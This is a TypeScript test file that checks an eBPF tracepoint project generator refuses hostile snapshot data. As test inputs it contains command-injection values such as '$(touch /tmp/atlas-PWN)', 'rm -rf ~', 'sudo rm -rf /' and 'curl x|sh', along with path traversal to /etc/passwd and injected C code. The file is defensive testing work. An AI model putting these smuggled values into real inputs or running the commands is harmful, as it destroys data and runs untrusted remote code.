/**
 * Hostile data (issue 10): a malicious snapshot — names carrying quotes, comment ends, newlines, $(…),
 * backticks, ../, ;, <script> and C code — is refused by the schema with an error that names the event
 * and quotes the value; the same snapshot handed to the generator with the schema bypassed is refused
 * again by the generator and its emitters, or comes out with nothing of the payload live in C or shell.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DataError, readSnapshot, writeSnapshot } from '../../src/data/store.ts';
import { emitBpf } from '../../src/lib/generate/emit-bpf.ts';
import { emitLoader } from '../../src/lib/generate/emit-loader.ts';
import { GenerateError, generateProject, planProject } from '../../src/lib/generate/index.ts';
import { describeIssues, quoteValue, SnapshotSchema, type Snapshot } from '../../src/schemas/snapshot.ts';
import { HeadlineRunSchema } from '../../src/schemas/verify.ts';
import { CASES, hostileSnapshot, PAYLOADS, PLACES, realSnapshot, TARGET } from './payloads.ts';

/** C source with comments, string and character literals taken out: what the compiler reads as code. */
function liveCode(source: string): string {
	let out = '';
	for (let i = 0; i < source.length; i++) {
		const c = source[i] as string;
		if (c === '/' && source[i + 1] === '/') {
			while (i < source.length && source[i] !== '\n') i++;
			out += '\n';
		} else if (c === '/' && source[i + 1] === '*') {
			const end = source.indexOf('*/', i + 2);
			i = end < 0 ? source.length : end + 1;
			out += ' ';
		} else if (c === '"' || c === "'") {
			for (i++; i < source.length && source[i] !== c; i++) if (source[i] === '\\') i++;
			out += `${c}${c}`;
		} else out += c;
	}
	return out;
}

/** Lines of ```sh blocks in a README: the commands a reader pastes. */
const shellLines = (markdown: string) => [...markdown.matchAll(/```sh\n([\s\S]*?)```/g)].flatMap((m) => (m[1] as string).split('\n'));

describe('the schema refuses a malicious snapshot, naming the event and the value', () => {
	it('accepts the real snapshot the payloads go into', () => {
		expect(SnapshotSchema.safeParse(realSnapshot()).success).toBe(true);
	});

	it.each(CASES)('%s = %s', (place, _, payload) => {
		const { snapshot } = hostileSnapshot(place, payload);
		const result = SnapshotSchema.safeParse(snapshot);
		expect(result.success).toBe(false);
		const message = describeIssues(result.error as NonNullable<typeof result.error>, snapshot);
		expect(message).toContain(quoteValue(payload));
		if (PLACES[place]?.inEvent) expect(message).toMatch(/^event ".+" at events\[\d+\]\.\S+: /m);
	});
});

describe('data/ files patched by hand are refused on reading: file, kernel, event and value', () => {
	const dir = mkdtempSync(join(tmpdir(), 'atlas-hostile-data-'));
	afterAll(() => rmSync(dir, { recursive: true, force: true }));
	const clean = SnapshotSchema.parse(realSnapshot());
	writeSnapshot(dir, clean);
	const id = clean.provenance.id;
	const kernelFile = join(dir, 'kernels', `${id}.json`);

	/** A copy of the clean data folder with `edit` applied to one of its files. */
	function patched(file: string, edit: (text: string) => string): string {
		const copy = mkdtempSync(join(tmpdir(), 'atlas-hostile-data-'));
		cpSync(dir, copy, { recursive: true });
		const target = join(copy, file);
		const before = readFileSync(target, 'utf8');
		const after = edit(before);
		expect(after, `the patch must change ${file}`).not.toBe(before);
		writeFileSync(target, after);
		return copy;
	}
	const refusal = (copy: string) => {
		try {
			readSnapshot(copy, id);
		} catch (error) {
			rmSync(copy, { recursive: true, force: true });
			expect(error).toBeInstanceOf(DataError);
			return (error as Error).message;
		}
		throw new Error('readSnapshot accepted a hostile data folder');
	};

	it('an event name in the kernel file', () => {
		const copy = patched(`kernels/${id}.json`, (t) => t.replace('"name":"sys_enter_openat"', '"name":"sys_enter_openat$(touch /tmp/atlas-PWN)"'));
		const message = refusal(copy);
		expect(message).toContain(`kernels/${id}.json`);
		expect(message).toContain('event "syscalls:sys_enter_openat$(touch /tmp/atlas-PWN)" at events[');
		expect(message).toContain('event name "sys_enter_openat$(touch /tmp/atlas-PWN)" is not a tracefs name');
	});

	it('a category that would make a path out of data/formats/', () => {
		const copy = patched(`kernels/${id}.json`, (t) => t.replace('"category":"syscalls"', '"category":"../../../etc/passwd"'));
		expect(refusal(copy)).toMatch(/category "\.\.\/\.\.\/\.\.\/etc\/passwd" is not a tracefs name/);
	});

	it('a module name that would be pasted after sudo modprobe', () => {
		const copy = patched(`kernels/${id}.json`, (t) => t.replace('"module":null', '"module":"-v; rm -rf ~"'));
		expect(refusal(copy)).toContain('module name "-v; rm -rf ~" is not a kernel module name');
	});

	it('a member name carrying C code in structs.json', () => {
		const copy = patched('structs.json', (t) => t.replace('{"name":"args"', `{"name":${JSON.stringify('args[0]); bpf_trace_printk("PWN", 4); (void)(ctx->args')}`));
		const message = refusal(copy);
		expect(message).toContain(`kernels/${id}.json (syscalls:sys_enter_`);
		expect(message).toContain('structs.json does not match its schema');
		expect(message).toContain('member name "args[0]); bpf_trace_printk(\\"PWN\\", 4); (void)(ctx->args" is not a C identifier');
	});

	it('a field name in a format text', () => {
		const copy = patched('formats/syscalls.json', (t) => t.replace(/const char \* filename;/g, 'const char * filename$(id);'));
		const message = refusal(copy);
		expect(message).toContain(kernelFile.replace(dir, ''));
		expect(message).toMatch(/\(syscalls:sys_enter_\w+\): syscalls\/sys_enter_\w+\/format of kernel running-6\.18-amd64:\d+: cannot read a type and a name in "const char \* filename\$\(id\)"/);
	});

	it('a release with a newline and a kernel id with a path in the provenance', () => {
		expect(refusal(patched(`kernels/${id}.json`, (t) => t.replace(`"release":"${clean.provenance.release}"`, '"release":"6.18\\nsudo rm -rf /"')))).toContain(
			'release "6.18\\nsudo rm -rf /" is not a kernel release',
		);
		expect(refusal(patched(`kernels/${id}.json`, (t) => t.replace(`"id":"${id}"`, '"id":"../../x"')))).toContain('kernel id "../../x" is not a kernel id');
	});
});

describe('with the schema bypassed, the generator and its emitters refuse the payloads', () => {
	const OPTION_SETS = [{}, { context: 'portable' as const }, { output: 'printk' as const, pairExit: true }];

	it.each(CASES)('%s = %s', (place, _, payload) => {
		const { snapshot, event } = hostileSnapshot(place, payload);
		const byKey = new Map(snapshot.events.map((e) => [`${e.category}:${e.name}`, e]));
		for (const options of OPTION_SETS) {
			let files;
			try {
				files = generateProject({ kernel: snapshot.provenance, events: [event], lookup: (c, n) => byKey.get(`${c}:${n}`) }, options).files;
			} catch (error) {
				expect(error).toBeInstanceOf(GenerateError);
				expect((error as Error).message).toContain(quoteValue(payload).slice(1, -1));
				continue;
			}
			// Not refused (a type or declaration, which only comments and README tables show): nothing of it is live.
			for (const f of files) {
				if (/\.(c|h)$/.test(f.path)) expect(liveCode(f.content), `${f.path} with ${options}`).not.toContain('PWN');
				if (f.path === 'README.md') expect(shellLines(f.content).filter((l) => l.includes('PWN'))).toEqual([]);
			}
			expect(['field type', 'field declaration', 'member type', 'format name'], `${place} reached the output without being refused`).toContain(place);
		}
	});

	// The inner layer: the emitters check again what they paste, whatever plan they are handed.
	const clean = SnapshotSchema.parse(realSnapshot()) as Snapshot;
	const byKey = new Map(clean.events.map((e) => [`${e.category}:${e.name}`, e]));
	const input = { kernel: clean.provenance, events: [byKey.get(TARGET)!], lookup: (c: string, n: string) => byKey.get(`${c}:${n}`) };
	const INJECTED = 'args[0]); bpf_trace_printk("PWN", 4); (void)(ctx->args';

	it('emitBpf refuses a ctx member path that is not a member path (the ctx->${path} fallback)', () => {
		const plan = planProject(input);
		const field = plan.events[0]!.fields.find((f) => f.path !== null)!;
		expect(emitBpf(plan)).toContain(`ctx->${field.path}`);
		field.path = `${INJECTED}[1]`;
		expect(() => emitBpf(plan)).toThrowError(GenerateError);
		expect(() => emitBpf(plan)).toThrowError(/refusing to emit ctx member path "args\[0\]\); bpf_trace_printk/);
	});

	it('emitBpf refuses a ctx struct name that is not an identifier', () => {
		const plan = planProject(input);
		plan.events[0]!.ctx.struct = 'trace_event_raw_sys_enter *x; int y';
		expect(() => emitBpf(plan)).toThrowError(/refusing to emit struct name "trace_event_raw_sys_enter \*x; int y"/);
	});

	it("emitLoader refuses a module name for tp_helpers.h's sudo modprobe hint, and names that go into paths", () => {
		const plan = planProject(input);
		plan.events[0]!.event = { ...plan.events[0]!.event, origin: { kind: 'module', module: 'ext4; curl x|sh' } };
		expect(() => emitLoader(plan)).toThrowError(/refusing to emit module name "ext4; curl x\|sh"/);
		plan.events[0]!.event = { ...plan.events[0]!.event, origin: { kind: 'builtin' }, category: '../../x' };
		expect(() => emitLoader(plan)).toThrowError(/refusing to emit tracefs name "\.\.\/\.\.\/x"/);
	});
});

describe('verification results in data/verify show their trigger as a command: plain words only', () => {
	const run = { event: 'syscalls:sys_enter_connect', pairExit: true, context: 'vmlinux', trigger: 'nc 127.0.0.1 1', expected: {}, line: null, passed: false };
	it('accepts the real triggers and refuses shell', () => {
		for (const trigger of ['nc 127.0.0.1 1', 'cat /verify/marker', '/bin/true atlas-verify']) expect(HeadlineRunSchema.safeParse({ ...run, trigger }).success).toBe(true);
		for (const trigger of ['nc 1; curl x|sh', '$(touch /tmp/atlas-PWN)', 'cat `x`', 'a\nb', 'a > /etc/passwd', '']) {
			const result = HeadlineRunSchema.safeParse({ ...run, trigger });
			expect(result.success, trigger).toBe(false);
		}
		expect(HeadlineRunSchema.safeParse({ ...run, event: '../x:y' }).success).toBe(false);
	});
});

describe('print fmt tables are free text: their names and delimiters reach C only as escaped string literals', () => {
	const COMPANION = join(import.meta.dirname, '../../companion');
	const work = mkdtempSync(join(tmpdir(), 'atlas-hostile-decode-'));
	afterAll(() => rmSync(work, { recursive: true, force: true }));

	it.each(Object.entries(PAYLOADS))('%s', { timeout: 60_000 }, (label, payload) => {
		const snapshot = SnapshotSchema.parse(realSnapshot()) as Snapshot;
		const event = snapshot.events.find((e) => `${e.category}:${e.name}` === TARGET)!;
		// The schema keeps a print fmt as text (it is the kernel's), so this passes it: the generator must escape.
		event.format.printFmt = `"flags: %s%s", (REC->flags & 3) ? ${JSON.stringify(payload)} : "", __print_flags(REC->flags, ${JSON.stringify(payload)}, { 0x1, ${JSON.stringify(payload)} }, { 0x2, "O_RDWR" })`;
		const project = generateProject({ kernel: snapshot.provenance, events: [event] }, { programName: 'hostile_decode' });
		const header = project.files.find((f) => f.path === 'hostile_decode.h')!.content;
		const loader = project.files.find((f) => f.path === 'hostile_decode.c')!.content;
		expect(header).toContain('static const struct tp_name decode_flags[]');
		expect(header).toContain('static inline const char *decode_flags_before(unsigned long long v)');
		expect(loader).toContain('tp_print_flags("flags"');
		for (const c of [header, loader]) expect(liveCode(c)).not.toContain('PWN');
		// And the C compiler reads the tables as data: header and helpers compile, with every warning an error.
		const dir = join(work, label.replace(/\W+/g, '_'));
		cpSync(COMPANION, dir, { recursive: true });
		writeFileSync(join(dir, 'hostile_decode.h'), header);
		writeFileSync(join(dir, 'check.c'), '#include <linux/types.h>\n#include "tp_helpers.h"\n#include "hostile_decode.h"\nint main(void) { tp_print_flags("f", 1, decode_flags, 2, "|", ~0ULL, 0, decode_flags_before, 0); return 0; }\n');
		const cc = spawnSync('cc', ['-Wall', '-Werror', '-fsyntax-only', join(dir, 'check.c')], { encoding: 'utf8' });
		expect(cc.stderr).toBe('');
		expect(cc.status).toBe(0);
	});
});
